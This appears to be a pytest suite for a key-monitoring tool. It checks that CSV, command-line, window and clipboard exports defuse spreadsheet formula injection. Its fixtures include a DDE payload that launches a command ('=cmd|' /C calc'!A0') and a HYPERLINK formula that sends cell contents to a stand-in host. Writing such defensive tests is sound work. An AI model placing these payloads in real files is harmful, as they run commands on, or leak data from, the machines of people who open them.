"""Text of others that a spreadsheet would take for a formula: in no cell, whichever way it gets into a file."""

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from PySide6.QtGui import QGuiApplication

from keymon import cli
from keymon.export import defused
from keymon.gui.figure_table import FigureTable
from keymon.gui.key_columns import MODEL_COLUMN
from keymon.gui.row_table import RowTable
from tests.conftest import MakeGateway
from tests.faults.written import table, write
from tests.gateway_file import key
from tests.gui.conftest import NOW, Bench, select
from tests.gui.export_bench import ask, choose, folder_for, opened, shown
from tests.gui.export_bench import write as write_by

AS_OF = ("--as-of", NOW.isoformat(), "--gateway-tz", "UTC")
BEFORE = {
    "nothing": "",
    "a space": " ",
    "spaces": "   ",
    "a tab": "\t",
    "a carriage return": "\r",
    "a line feed": "\n",
    "both": "\r\n",
    "a vertical tab": "\v",
    "a form feed": "\f",
    "a NUL": "\0",
    "a no-break space": "\xa0",
    "a wide space": "\u3000",
    "a next line": "\x85",
    "a line separator": "\u2028",
    "a space of no width": "\u200b",
    "a byte order mark": "\ufeff",
    "an apostrophe": "'",
    "a quote": '"',
    "two quotes": '""',
    "a quote and a space": '" ',
}
SIGNS = "=+-@＝＋－＠"
FORMULAS = {f"{sign} after {name}": f"{space}{sign}SUM(1)" for sign in SIGNS for name, space in BEFORE.items()} | {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://x.example?"&A1;"y")',
    "a number and a command": "-2+3+cmd|' /C calc'!A0",
    "a query": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab alone": "\t",
    "a carriage return and text": "\rtext",
    "signs alone": "=-=-=",
}


def is_safe(cell: str) -> bool:
    """Tell whether a spreadsheet takes a cell for text, or for a number: whatever it leaves out before it looks."""
    seen = cell.lstrip(" \t\r\n\v\f\0\xa0\u3000\x85\u2028\u200b\ufeff")
    return not seen.startswith(tuple(SIGNS)) and not cell.startswith(("\t", "\r", "\n"))


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_a_file_is_a_formula(tmp_path: Path, text: str) -> None:
    write(tmp_path / "out.csv", "csv", table((key(0), text, -3)))
    (cells,) = rows_of((tmp_path / "out.csv").read_bytes().decode())[1:]
    assert is_safe(cells[1])
    assert cells[2] == "-3", "a number below zero is none"
    assert "SUM" not in text or "SUM" in cells[1]
    write(tmp_path / "out.json", "json", table((key(0), text, -3)))
    assert json.loads((tmp_path / "out.json").read_bytes())["rows"][0]["model"] == text, "scripts get it to the letter"


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_that_a_command_prints_is_a_formula(
    make_gateway: MakeGateway, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    gateway = make_gateway([key(0)])
    at = NOW.replace(tzinfo=None) - timedelta(minutes=1)
    gateway.calls([(None, f"{at:%F %T.%f}", text, key(0), False, 400, 100)])
    gateway.errors([(key(0), text, text, text, 400, None, f"{at:%F %T.%f}")])
    for command in ("calls", "errors", "attention", "keys"):
        assert cli.main([command, "--csv", "--db", str(gateway.path), *AS_OF]) == 0
        rows = rows_of(capsys.readouterr().out)
        assert len(rows) == (1 if command == "attention" else 2)
        assert all(is_safe(cell) for row in rows for cell in row)


@pytest.mark.parametrize("name", ["=HYPERLINK(1)xxxxxxxxxxxxxxxx", "+1", "@x", "-y", "＝z", "\t=w"])
def test_no_key_in_full_is_a_formula(make_gateway: MakeGateway, capsys: pytest.CaptureFixture[str], name: str) -> None:
    gateway = make_gateway([name])
    assert cli.main(["keys", "--csv", "--show-keys", "--db", str(gateway.path), *AS_OF]) == 0
    _, row = rows_of(capsys.readouterr().out)
    assert is_safe(row[0])


SAMPLE = ("= after nothing", "＠ after a wide space", "+ after a tab", "- after a line feed", "a link")


@pytest.mark.parametrize("name", SAMPLE)
@pytest.mark.parametrize(
    ("panel", "what"), [("calls", "Calls: "), ("errors", "Errors ("), ("errors", "Errors by message"), ("keys", "All")]
)
def test_no_cell_that_the_window_exports_is_a_formula(
    bench: Bench, tmp_path: Path, name: str, panel: str, what: str
) -> None:
    text, folder = FORMULAS[name], folder_for(bench, tmp_path)
    gateway = bench.gateway(1)
    at = NOW.replace(tzinfo=None) - timedelta(minutes=1)
    gateway.calls([(None, f"{at:%F %T.%f}", text, key(0), False, 400, 100)])
    gateway.errors([(key(0), text, text, text, 400, None, f"{at:%F %T.%f}")])
    bench.follow(gateway)
    ask(bench, panel)
    dialog = opened(bench)
    choose(dialog, what, "csv")
    dialog.file.setText(str(folder / "out.csv"))
    rows = rows_of(write_by(bench.qtbot, dialog).read_bytes().decode())
    assert len(rows) == 2
    assert all(is_safe(cell) for row in rows for cell in row)


@pytest.mark.parametrize("name", SAMPLE)
@pytest.mark.parametrize("panel", ["calls", "errors", "keys", "details"])
def test_no_cell_that_is_copied_is_a_formula(bench: Bench, name: str, panel: str) -> None:
    gateway = bench.gateway(1)
    at = NOW.replace(tzinfo=None) - timedelta(minutes=1)
    gateway.calls([(None, f"{at:%F %T.%f}", FORMULAS[name], key(0), False, 400, 100)])
    gateway.errors([(key(0), FORMULAS[name], "x", FORMULAS[name], 400, None, f"{at:%F %T.%f}")])
    bench.follow(gateway)
    if panel == "details":
        bench.window.open_details(key(0)).findChildren(FigureTable)[0].copy()
    elif panel == "keys":
        bench.window.panel.valid.header.show_column(MODEL_COLUMN, True)
        select(bench.window.panel.valid, 0)
        bench.window.panel.valid._copy_table()
    else:
        table = shown(bench, panel).findChild(RowTable)
        assert isinstance(table, RowTable)
        table.selectRow(0)
        table._copy()
    rows = [line.split("\t") for line in QGuiApplication.clipboard().text().split("\n")]
    assert len(rows) >= 2
    assert len({len(row) for row in rows}) == 1
    assert all(is_safe(cell) for row in rows for cell in row)


def test_what_is_no_text_stays_what_it_is() -> None:
    assert defused(-3) == -3
    assert defused("-3") == "'-3"
    assert defused("a-3") == "a-3"
